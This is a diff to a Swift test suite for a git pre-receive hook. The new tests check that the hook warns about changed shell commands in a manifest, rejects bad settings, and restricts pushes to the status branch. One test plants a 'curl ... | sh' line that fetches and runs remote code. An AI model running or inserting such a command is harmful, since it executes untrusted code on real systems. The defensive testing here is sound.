@@ -207,6 +207,35 @@ import Testing
         #expect(try sandbox.leftoverTemporaryFiles() == [])
     }
 
+    /// Issue #12, H2: the reviewer sees every shell command a push adds or changes.
+    @Test func preReceiveShowsNewAndChangedCommands() throws {
+        let sandbox = try HookSandbox()
+        let server = try server(sandbox)
+        defer { server.daemon.stop() }
+        try sandbox.attempt(server.client, ["push", server.url, "main"]).expectSuccess()
+        let manifest = "config/certificate-manifest.json"
+        let text = try HookSandbox.exampleText(manifest)
+        let changed = text.replacingOccurrences(
+            of: "\"pct exec 220 -- systemctl restart traefik\"", with: "\"curl -s http://203.0.113.66/x | sh\"")
+        #expect(changed != text, "the example manifest no longer restarts traefik in 220")
+        try server.client.commit([manifest: changed], message: "a different hook")
+        let result = try sandbox.attempt(server.client, ["push", server.url, "main"])
+        #expect(result.succeeded, "\(result.stderr)")
+        let lines = result.stderr.split(separator: "\n").filter { $0.contains("(repository-command)") }
+        #expect(lines.count == 1, "\(result.stderr)")
+        #expect(lines.first?.contains("warning: ") == true && lines.first?.contains("changed: \"curl -s http://203.0.113.66/x | sh\"") == true)
+        #expect(lines.first?.hasPrefix("remote: \(manifest):") == true)
+
+        // phoenix.settings reaches validate: a settings file it cannot accept refuses the push.
+        let settings = sandbox.scratch.path("bad-settings.json")
+        try Data(#"{"no_such_setting": 1}"#.utf8).write(to: settings)
+        try server.bare.run("config", "phoenix.settings", settings.path)
+        try server.client.commit([manifest: text], message: "back")
+        let refused = try sandbox.attempt(server.client, ["push", server.url, "main"])
+        #expect(!refused.succeeded)
+        #expect(refused.stderr.contains("no_such_setting"), "\(refused.stderr)")
+    }
+
     @Test func preReceiveValidatesTheSelectedBranchesOnly() throws {
         let sandbox = try HookSandbox()
         let server = try server(sandbox)
@@ -214,7 +243,13 @@ import Testing
         try sandbox.attempt(server.client, ["push", server.url, "main"]).expectSuccess()
         let broken = try server.client.commit([Self.vmFile: try Self.brokenVMText()], message: "broken")
 
-        // Default: every branch but the status branch.
+        // Default: every branch but the status branch, which only the watcher's user may push
+        // (issue #12, M6: a forged ledger entry), and which is never validated.
+        let refused = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/phoenix-status"])
+        #expect(!refused.succeeded)
+        #expect(refused.stderr.contains("only the watcher may push the status branch"), "\(refused.stderr)")
+        #expect(try server.bare.run("branch", "--list", "phoenix-status").isEmpty)
+        try server.bare.run("config", "phoenix.statusPusher", NSUserName())
         let status = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/phoenix-status"])
         #expect(status.succeeded, "\(status.stderr)")
         let feature = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/feature"])
